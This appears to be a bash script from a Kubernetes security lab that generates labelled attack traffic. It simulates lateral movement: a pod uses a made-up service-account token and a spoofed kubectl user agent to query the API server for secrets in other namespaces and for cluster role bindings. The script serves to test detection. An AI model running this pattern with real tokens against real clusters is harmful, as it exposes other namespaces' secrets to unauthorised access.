#!/usr/bin/env bash
# Lateral movement: a pod uses a (stolen) service-account token against the API
# server through the kubernetes service: discovery, then secrets of other namespaces.
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target 10.96.0.1 "$NODE1_IP"
ns=$(lab_pod_ns toolbox)
gt_begin k8s-api-token lateral-movement curl pod:toolbox "svc:apiserver@default/kubernetes=10.96.0.1" "Bearer token: /version, /api/v1/namespaces/kube-system/secrets, /api/v1/namespaces/shop/secrets"
# A JWT-shaped service-account token (header.payload.signature), made up for the lab.
tok="eyJhbGciOiJSUzI1NiIsImtpZCI6ImxhYiJ9.$(printf '{"iss":"kubernetes/serviceaccount","kubernetes.io/serviceaccount/namespace":"dev","kubernetes.io/serviceaccount/service-account.name":"default","sub":"system:serviceaccount:dev:default"}' | base64 -w0 | tr '+/' '-_' | tr -d '=').bGFiLXNpZ25hdHVyZQ"
for p in /version /api/v1/namespaces/kube-system/secrets /api/v1/namespaces/shop/secrets /apis/rbac.authorization.k8s.io/v1/clusterrolebindings; do
  lab_exec "$ns" timeout 10 curl -sk -o /dev/null --max-time 3 -H "Authorization: Bearer $tok" -A 'kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8' "https://10.96.0.1$p" || true
done
gt_end '{"dport":443}'
